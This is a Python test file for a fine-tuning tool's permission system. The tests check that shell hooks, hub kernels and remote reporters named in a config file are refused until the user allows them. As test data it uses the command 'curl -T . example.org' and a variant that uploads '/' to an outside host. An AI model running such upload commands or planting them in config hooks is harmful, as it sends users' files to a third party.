"""What a file names is run only if its user has said so on this machine."""

from pathlib import Path

import pytest

from core import permissions
from core.cli import main
from core.errors import SftuiError
from core.permissions import Permission
from core.spec.build import build_spec
from core.spec.run_spec import RunSpec

COMMAND = Permission("command", "curl -T . example.org", "sftui.on_finish")
KERNEL = Permission("kernel", "somebody/attention", "sftui.allow_hub_kernels")


@pytest.fixture(autouse=True)
def _home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for variable in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(variable, str(tmp_path / variable))


def spec(**sftui: object) -> RunSpec:
    return build_spec({"model_name_or_path": "m", "datasets": [{"path": "rows.jsonl"}], "sftui": sftui})


def test_nothing_that_a_file_names_is_allowed_until_its_user_says_so() -> None:
    asking = spec(on_finish="curl -T . example.org", allow_hub_kernels=["somebody/attention"])
    assert permissions.missing(spec()) == ()
    assert permissions.missing(asking) == (KERNEL, COMMAND)
    permissions.allow((COMMAND,))
    assert permissions.missing(asking) == (KERNEL,)
    permissions.allow((KERNEL,))
    assert permissions.missing(asking) == ()
    assert permissions.missing(spec(on_finish="curl -T / example.org"))[0].what == "curl -T / example.org"


def test_a_command_in_words_and_as_a_list_is_the_same_only_if_it_is() -> None:
    permissions.allow(permissions.wanted(spec(on_finish=["notify", "all done"])))
    assert permissions.missing(spec(on_finish="notify 'all done'")) == ()
    assert permissions.missing(spec(on_finish="notify all done")) != ()


def test_what_is_refused_is_taken_out_of_the_spec() -> None:
    asking = spec(on_finish="a", allow_hub_kernels=["b/c", "d/e"], name="kept")
    left = permissions.without(asking, (Permission("kernel", "b/c", ""), Permission("command", "a", "")))
    assert (left.sftui.on_finish, left.sftui.allow_hub_kernels, left.sftui.name) == (None, ["d/e"], "kept")
    assert permissions.without(asking, ()) == asking


def test_a_list_that_cannot_be_read_allows_nothing(tmp_path: Path) -> None:
    permissions.allow((COMMAND,))
    (tmp_path / "XDG_CONFIG_HOME" / "sftui" / "allowed.json").write_text("{")
    with pytest.raises(SftuiError, match="allowed"):
        permissions.missing(spec(on_finish="a"))


def test_a_run_from_a_file_is_refused_with_what_it_would_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from core.runs import launch

    started: list[object] = []
    monkeypatch.setattr(launch, "start_run", lambda folder, *_, **__: started.append(folder))
    starter = ["run", "starter", "--detach", "--set", "sftui.on_finish=say done"]
    assert main(starter) == 0
    yaml = tmp_path / "whole.yaml"
    assert main(["plan", "starter", "--yaml", "--set", "sftui.on_finish=curl -T . example.org"]) == 0
    out = capsys.readouterr().out
    yaml.write_text(out[out.index("model_name_or_path") :] if "model_name_or_path" in out else out)
    assert main(["run", str(yaml), "--detach"]) == 2
    told = capsys.readouterr().err
    assert "the command curl -T . example.org" in told
    assert "--allow" in told
    assert len(started) == 1
    assert main(["run", str(yaml), "--detach", "--allow"]) == 0
    assert main(["run", str(yaml), "--detach"]) == 0
    assert len(started) == 3


def test_what_sends_figures_away_is_asked_for_and_what_writes_files_is_not(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("core.spec.contradictions.importlib.util.find_spec", lambda _: object())
    asking = spec(report_to=["tensorboard", "wandb"])
    wandb = Permission("reporter", "wandb", "sftui.report_to")
    assert permissions.missing(asking) == (wandb,)
    assert permissions.without(asking, (wandb,)).sftui.report_to == ["tensorboard"]
    permissions.allow((wandb,))
    assert permissions.missing(asking) == ()
